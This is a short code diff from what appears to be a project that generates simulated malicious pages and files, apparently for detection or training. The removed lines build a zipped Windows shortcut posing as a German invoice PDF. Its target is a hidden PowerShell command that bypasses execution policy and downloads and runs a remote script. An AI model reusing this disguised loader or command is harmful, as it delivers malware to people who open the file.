@@ -3,10 +3,6 @@ import { htmlRoute, redirectRoute } from '../entry.js';
 import { doc, footer, nav, tracker, trackerRoute, cookieBanner, pngRoute, jsRoute, jsonRoute, fileRoute } from '../parts/p-kit.js';
 import { zip, lnk, pe, cfb, iso, apk } from '../parts/e-bin.js';
 
-const invoiceZipB64 = zip([
-  { name: 'Rechnung_2026-11-4471.pdf.lnk', data: lnk('C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '-w hidden -ep bypass -c "iwr https://cdn-rechnung-store.eu/r.ps1 -useb | iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
-]).toString('base64');
-
 export const entries: Entry[] = [
 {
   id: 'p-mal-fake-browser-update-compromised-dentist',
